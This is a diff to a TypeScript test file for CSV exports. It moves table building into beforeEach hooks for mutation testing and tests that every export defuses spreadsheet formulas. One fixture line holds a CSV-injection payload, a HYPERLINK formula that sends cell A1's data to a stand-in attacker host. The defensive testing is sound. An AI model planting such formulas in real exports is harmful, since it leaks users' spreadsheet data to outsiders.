@@ -1,10 +1,11 @@
 /** The CSV downloads round-trip through a parser: what a spreadsheet reads is what the generator meant. */
-import { describe, expect, it } from 'vitest';
+import { beforeEach, describe, expect, it } from 'vitest';
 import { csvResponse, parseCsv, toCsv, CSV_BOM } from '../../src/lib/csv.ts';
 import { buildMatrix, cellWords, matrixColumns, matrixRows, matrixTable } from '../../src/lib/matrix.ts';
 import {
   buildChecklists,
   checklistTable,
+  type Checklist,
   CHECKLIST_CSV_HEADER,
   itemStatement,
   sourceKey,
@@ -79,15 +80,24 @@ describe('parseCsv and csvResponse', () => {
 /** A formula an author could paste into any text the exports carry: it opens a link when a cell is clicked. */
 const MULTILINE_FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,\n"evidence")';
 
+/** Every CSV export of `model`, by its file name. */
+const exportsOf = (model: Model): [string, string[][]][] => [
+  ['matrix.csv', matrixTable(buildMatrix(model), sayIn(model), 'en')],
+  ...buildChecklists(model).map(
+    (c) => [`checklists/${c.id}.csv`, checklistTable(c, sayIn(model))] as [string, string[][]],
+  ),
+];
+
 describe('every CSV export defuses a multi-line formula in any cell', () => {
-  const model = realModel();
-  const exports: [string, string[][]][] = [
-    ['matrix.csv', matrixTable(buildMatrix(model), sayIn(model), 'en')],
-    ...buildChecklists(model).map(
-      (c) => [`checklists/${c.id}.csv`, checklistTable(c, sayIn(model))] as [string, string[][]],
-    ),
-  ];
-  it.each(exports)('%s', (_, table) => {
+  // The test names are the exports' file names, so this table is built as the file loads; each test
+  // checks the export built again in its beforeEach, where Stryker counts it (README, "Mutation testing").
+  const exports = exportsOf(realModel());
+  let built: Map<string, string[][]>;
+  beforeEach(() => {
+    built = new Map(exportsOf(realModel()));
+  });
+  it.each(exports)('%s', (name) => {
+    const table = built.get(name)!;
     // the formula in every column of the first data row, as content could put it there
     const poisoned = [table[0]!, table[1]!.map(() => MULTILINE_FORMULA), ...table.slice(2)];
     const parsed = parseCsv(toCsv(poisoned));
@@ -123,10 +133,20 @@ describe('the matrix CSV', () => {
 const defused = (text: string) => text.replace(/^([=+\-@\t\r\n])/, "'$1");
 
 describe('the checklist CSVs', () => {
-  const model = realModel();
-  const say = sayIn(model);
-  const checklists = buildChecklists(model);
-  it.each(checklists.map((c) => [c.id, c] as const))('%s round-trips, one row per item', (_, checklist) => {
+  let model: Model;
+  let say: ReturnType<typeof sayIn>;
+  let checklists: Checklist[];
+  // built in each test, not as the file loads: Stryker counts only code run inside a test (README, "Mutation testing")
+  beforeEach(() => {
+    model = realModel();
+    say = sayIn(model);
+    checklists = buildChecklists(model);
+  });
+  // The test names are the checklists' ids, so this table is built as the file loads; each test checks
+  // the checklist built in its beforeEach.
+  const loaded = buildChecklists(realModel());
+  it.each(loaded.map((c) => [c.id, c] as const))('%s round-trips, one row per item', (id) => {
+    const checklist = checklists.find((c) => c.id === id)!;
     const parsed = parseCsv(toCsv(checklistTable(checklist, say)));
     expect(parsed[0]).toEqual([...CHECKLIST_CSV_HEADER]);
     expect(parsed.length).toBe(checklist.items.length + 1);
